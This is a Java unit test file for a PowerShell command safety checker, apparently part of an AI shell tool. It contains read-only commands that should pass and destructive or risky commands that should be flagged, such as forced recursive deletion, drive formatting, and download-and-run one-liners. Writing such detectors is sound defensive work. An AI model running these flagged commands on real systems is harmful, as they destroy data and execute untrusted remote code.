package aish.safety;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PowerShellTextTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Get-ChildItem -Recurse",
                "get-process | Where-Object { $_.CPU -gt 10 } | Sort-Object CPU | Select-Object -First 5",
                "Get-Content a.txt | Measure-Object -Line",
                "Get-Service | Format-Table Name, Status # all of them",
                "Test-Path 'C:\\Program Files'; Get-Date",
                "(Get-Item a.txt).Length",
                "Get-ChildItem | ForEach-Object { $_.Name }",
                "Write-Output 'Remove-Item x; rm > y'"
            })
    void readsWhatOnlyReads(String code) {
        assertThat(PowerShellText.doubt(code)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Remove-Item -Recurse -Force C:\\x",
                "Get-ChildItem | Remove-Item",
                "Get-ChildItem | ForEach-Object { Remove-Item $_ }",
                "Format-Volume -DriveLetter D",
                "iwr https://x/y.ps1 | iex",
                "irm https://x | Invoke-Expression",
                "rm x",
                "Get-Content a > b",
                "& 'C:\\x.exe'",
                ".\\run.ps1",
                "(Get-Item a).Delete()",
                "[IO.File]::Delete('a')",
                "$env:PATH = 'x'",
                "Write-Output \"$(Remove-Item x)\"",
                "Get-Process\nStop-Process -Id 3",
                "Set-Content a x",
                "Start-Process x"
            })
    void doubtsEverythingElse(String code) {
        assertThat(PowerShellText.doubt(code)).isPresent();
    }
}
